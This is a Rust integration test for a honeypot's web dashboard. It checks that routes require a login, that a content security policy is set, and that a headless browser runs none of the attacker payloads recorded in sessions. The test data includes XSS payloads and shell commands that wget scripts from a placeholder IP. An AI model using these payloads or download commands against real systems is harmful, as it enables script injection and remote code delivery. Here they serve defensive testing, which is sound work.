//! The dashboard end to end: the real binary with the dashboard on, sessions made by the
//! OpenSSH client and a Rust client (with attacker payloads in every field the dashboard
//! shows), every route refused without a login, and then a real headless Chromium
//! (`tests/browser/dashboard.mjs`, playwright-core) that logs in, filters, opens, replays,
//! watches a live session, tags and exports, and proves no payload ran.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::Duration;

use crate::util::{Server, ssh_cmd, ssh_exec};

/// Payloads typed into the honeypot. The browser test fails on any dialog or script run.
pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\"><svg onload=alert(3)>",
    "'-alert(4)-'",
    "</script><script>alert(5)</script>",
];

/// A plain HTTP/1.1 request without cookies; returns (status, headers+body text).
fn raw(base: &str, method: &str, path: &str, body: &str) -> (u16, String) {
    let addr = base.trim_start_matches("http://");
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nAccept: text/html\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    s.write_all(req.as_bytes()).unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, text)
}

/// Every route of the dashboard, with a real session id and address.
fn routes(session: &str, ip: &str) -> Vec<(&'static str, String)> {
    let mut r: Vec<(&str, String)> = vec![
        ("GET", "/".into()),
        ("GET", "/sessions".into()),
        ("GET", "/sessions?user=root".into()),
        ("GET", format!("/sessions/{session}")),
        ("GET", format!("/sessions/{session}/cast")),
        ("GET", format!("/sessions/{session}/live")),
        ("GET", format!("/sessions/{session}/events")),
        ("POST", format!("/sessions/{session}/tags")),
        ("POST", format!("/sessions/{session}/tags/remove")),
        ("GET", format!("/attackers/{ip}")),
        ("POST", format!("/attackers/{ip}/block")),
        ("POST", format!("/attackers/{ip}/unblock")),
        ("GET", "/analytics".into()),
        ("GET", "/metrics".into()),
        ("POST", "/logout".into()),
        ("GET", "/no-such-page".into()),
        ("GET", "/api/me".into()),
        ("GET", "/api/overview".into()),
        ("GET", "/api/histogram".into()),
        ("GET", "/api/live".into()),
        ("GET", "/api/sessions".into()),
        ("GET", format!("/api/sessions/{session}")),
        ("GET", format!("/api/sessions/{session}/events")),
        ("GET", format!("/api/attackers/{ip}")),
        ("GET", "/api/analytics".into()),
        ("GET", "/api/tags".into()),
    ];
    for f in ["txt", "json", "cowrie", "cast", "ioc.csv", "stix"] {
        r.push(("GET", format!("/sessions/{session}/export/{f}")));
        if f != "cast" {
            r.push(("GET", format!("/export/{f}")));
        }
    }
    r
}

fn browser_ready(root: &std::path::Path) -> Option<String> {
    let chromium = std::env::var("CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into());
    let pw = root.join("tests/browser/node_modules/playwright-core");
    if !std::path::Path::new(&chromium).exists() || !pw.exists() {
        return None;
    }
    Some(chromium)
}

fn repo_root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// Sessions with payloads in usernames, passwords, commands, outputs, file names, URLs and
/// the client version (a Rust client can send any identification string).
fn hostile_sessions(s: &Server) {
    let script = XSS
        .iter()
        .map(|p| {
            let q = p.replace('\'', "'\\''");
            format!("echo '{q}'; touch '/tmp/{q}'; wget 'http://203.0.113.7/{q}.sh'")
        })
        .collect::<Vec<_>>()
        .join("; ");
    let (_, _, code) = ssh_exec(s, &script);
    assert_eq!(code, 0, "payload commands ran");
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        // One connection per payload: the payload is the client version, the username and
        // the password (each login attempt of its own connection, so none follows a success).
        for p in XSS {
            let cfg = russh::client::Config {
                client_id: russh::SshId::Standard(format!("SSH-2.0-{p}").into()),
                ..Default::default()
            };
            let attempt = async {
                let mut h = russh::client::connect(Arc::new(cfg), s.addr, crate::Client)
                    .await
                    .expect("connect");
                let _ = h.authenticate_password(*p, *p).await;
                let _ = h
                    .disconnect(russh::Disconnect::ByApplication, "", "en")
                    .await;
            };
            tokio::time::timeout(Duration::from_secs(20), attempt)
                .await
                .expect("a payload login finishes");
        }
    });
}

/// Waits until the store shows `n` sessions with commands (the store sink batches).
fn wait_for_sessions(s: &Server, n: usize) -> Vec<(String, String)> {
    let rt = tokio::runtime::Runtime::new().unwrap();
    for _ in 0..100 {
        let rows = rt.block_on(async {
            let store = miragepot_store::Store::open(&s.db_url()).await.unwrap();
            let rows = store.sessions(1000, 0).await.unwrap();
            store.close().await;
            rows
        });
        let done: Vec<_> = rows
            .iter()
            .filter(|r| r.commands > 0 && r.ended_at.is_some())
            .map(|r| (r.session.to_string(), r.src_ip.to_string()))
            .collect();
        if done.len() >= n {
            return done;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("sessions did not reach the store");
}

#[test]
fn dashboard_in_a_real_browser() {
    let root = repo_root();
    let Some(chromium) = browser_ready(&root) else {
        // scripts/test.sh installs both (scripts/browser-setup.sh); CI always has them.
        eprintln!(
            "NOTICE: dashboard browser test skipped: run scripts/browser-setup.sh (Chromium and playwright-core)"
        );
        return;
    };
    let mut s = Server::start_with(&[("MIRAGEPOT_WEB_ENABLED", "true")]);
    let base = s.web.clone().expect("dashboard address");
    let password = s
        .admin_password
        .clone()
        .expect("first admin password printed");

    // A recorded pty session, then the hostile ones.
    let _ = crate::util::ssh_pty(&s, "uname -a\ncat /etc/os-release\nexit\n");
    hostile_sessions(&s);
    let sessions = wait_for_sessions(&s, 2);
    let (session, ip) = sessions.first().cloned().unwrap();

    // Nothing answers without a login (static files and the login form excepted).
    for (method, path) in routes(&session, &ip) {
        let (status, text) = raw(&base, method, &path, "csrf=x&tag=x");
        let to_login = status == 303
            && text
                .lines()
                .any(|l| l.to_ascii_lowercase().starts_with("location: /login"));
        assert!(
            status == 401 || to_login,
            "{method} {path} answered {status} without a login"
        );
    }
    assert_eq!(raw(&base, "GET", "/login", "").0, 200);
    assert_eq!(raw(&base, "GET", "/static/app.js", "").0, 200);
    let (status, head) = raw(&base, "GET", "/login", "");
    assert_eq!(status, 200);
    assert!(head.contains("content-security-policy: default-src 'none'"));

    // A live session typing slowly while the browser watches.
    let live = {
        let mut child = ssh_cmd(&s, "root", "123456")
            .arg("-tt")
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(800));
            for i in 0..40 {
                let line = format!("echo live-marker-{i}\r");
                if stdin.write_all(line.as_bytes()).is_err() {
                    break;
                }
                let _ = stdin.flush();
                std::thread::sleep(Duration::from_millis(700));
            }
            let _ = stdin.write_all(b"exit\r");
            drop(stdin);
            let _ = child.wait();
        })
    };

    let shots = std::env::var("MIRAGEPOT_SCREENSHOT_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|_| root.join("target/screenshots"));
    let out = Command::new("node")
        .arg(root.join("tests/browser/dashboard.mjs"))
        .env("BASE_URL", &base)
        .env("ADMIN_PASSWORD", &password)
        .env("CHROMIUM", &chromium)
        .env("MIRAGEPOT_SCREENSHOT_DIR", &shots)
        .env("XSS_PAYLOADS", serde_json::to_string(XSS).unwrap())
        .output()
        .expect("run node");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    println!("{stdout}");
    assert!(
        out.status.success(),
        "browser test failed:\n{stdout}\n{stderr}"
    );
    let _ = live.join();
    s.stop();
}
